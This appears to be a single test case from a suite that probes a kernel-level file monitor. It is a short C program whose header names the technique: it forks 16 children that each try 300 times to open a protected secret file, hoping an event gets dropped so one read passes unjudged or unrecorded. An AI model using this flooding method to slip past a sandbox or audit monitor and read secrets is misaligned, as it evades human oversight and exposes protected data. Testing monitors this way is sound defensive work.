/* technique: makes so many denied calls at once that one might pass unjudged or unrecorded
 * source: kernelradar, dropped events; reference study 4.3 #30
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "power.h"

int main(void)
{
	for (int i = 0; i < 16; i++)
		if (fork() == 0) {
			for (int n = 0; n < 300; n++) {
				int fd = open(SECRET_FILE, O_RDONLY);
				if (fd >= 0)
					_exit(show(fd));
			}
			_exit(1);
		}
	while (wait(NULL) > 0)
		;
	return 0;
}
